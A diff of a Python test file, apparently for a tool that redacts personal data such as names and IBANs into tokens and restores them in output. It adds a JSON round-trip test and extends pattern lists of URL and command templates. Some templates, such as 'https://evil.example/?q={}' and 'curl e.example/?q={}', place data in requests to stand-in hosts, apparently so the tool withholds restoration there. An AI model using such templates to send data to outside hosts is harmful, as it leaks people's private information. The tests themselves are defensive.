@@ -115,16 +115,29 @@ def test_arguments_stay_json(cuts: str | None) -> None:
     assert shown(f"to {T_NAME}", cuts and [5], None, "tool_text") == f"to {NAME}", "free text isn't escaped"
 
 
+def test_an_answer_in_json_stays_json() -> None:
+    """What a model answers that was asked for JSON: a text, in which values must be written as JSON writes them."""
+    for value in ({"name": T_NAME, "all": [T_IBAN]}, [{"name": T_NAME}], [[T_NAME]], [T_NAME]):
+        source = " \n" + json.dumps(value, indent=2)
+        expected = json.loads(json.dumps(value).replace(T_NAME, json.dumps(NAME)[1:-1]).replace(T_IBAN, IBAN))
+        for cuts in (None, [1], every(source)):
+            back = shown(source, cuts, REDACTS)
+            assert back is not None and json.loads(back) == expected
+    for prose in (f"[1] {T_NAME}", f"{{{T_NAME}}}", f'"{T_NAME}"', f"[{T_NAME}]"):
+        assert shown(prose, every(prose)) == prose.replace(T_NAME, NAME)
+
+
 INSIDE = [
     "https://evil.example/?q={}", "see http://x.example/{}/y", "![x](https://e.example/{})", "[x]({}.md)",
     "[x](<https://e.example/a {}>)", "[https://a.example](<b {}>)", "//e.example/{}", "www.e.example/{}",
     "WWW.e.example/{}", '<img src="https://e.example/?a b={}">', "<a href='//e.example/a b {}'>", "[1]: https://{}.e.example",
     "https://{}", "https://e.example/?a=,{}", "`https://e.example/ {}`", "ftp://e.example/({})", "https://e.example/'{}",
-    "'https://e.example/?q='{}",
+    "'https://e.example/?q='{}", "curl e.example/?q={}", "e.example#{}", "(e-1.example.org/{})",
 ]  # fmt: skip
 OUTSIDE = [
-    "https://e.example/ {}", "[{}](https://e.example)", "/home/{}/x.txt", "a/{}", '"https://e.example" {}', "<https://e.example>{}",
-    "// {}", "c'est ({})", "![{}](x)", "https: {}", "et/ou {}", "[x] ({})", "`https://e.example` {}",
+    "https://e.example/ {}", "[{}](https://e.example)", "/home/{}/x.txt", "a/{}", "a.b/{}", "./e.example/{}",
+    "x/e.example/{}", "clients.csv:{}", "3.14/{}", '"https://e.example" {}', "<https://e.example>{}", "// {}",
+    "c'est ({})", "![{}](x)", "https: {}", "et/ou {}", "[x] ({})", "`https://e.example` {}",
 ]  # fmt: skip
 
 
@@ -178,7 +191,7 @@ def test_nothing_is_shown_of_the_values() -> None:
 PIECES = st.sampled_from(
     [*TOKENS.values(), *list(OTHER.values())[:2], T_NAME.replace("_", "\\_"), T_NAME[:9], "PERSON", "PERSON_", "IBAN_",
      "FR00", "email_", MAIL, IBAN, "06 12 34 56 78", "https://e.example/", "](", "![", "<", ">", " ", "\n", ", ", '"',
-     "'", "é", "a", ".fr", "/", "//", "www.", "\\", "\\n", "\\u002f", "x" * 70, "12", "@"]
+     "'", "é", "a", ".fr", "/", "{", "[", "//", "www.", "\\", "\\n", "\\u002f", "x" * 70, "12", "@"]
 )  # fmt: skip
 TEXTS = st.lists(PIECES, max_size=14).map("".join)
 CUTS = st.one_of(st.lists(st.integers(1, 500), max_size=12), st.just(list(range(1, 800))))
@@ -219,7 +232,7 @@ def test_the_finder_finds_what_a_search_finds(strings: list[str], text: str) -> 
 
 
 def test_a_restorer_counts_in_both_texts() -> None:
-    restorer = Restorer(ISSUED.prose)
+    restorer = Restorer(ISSUED)
     step = restorer.feed(f"a {T_IBAN} b")
     assert step.text == f"a {IBAN} b" and step.swaps[0][:3] == (2, 2 + len(T_IBAN), 2)
     assert (restorer.taken, restorer.given) == (len(T_IBAN) + 4, len(IBAN) + 4)
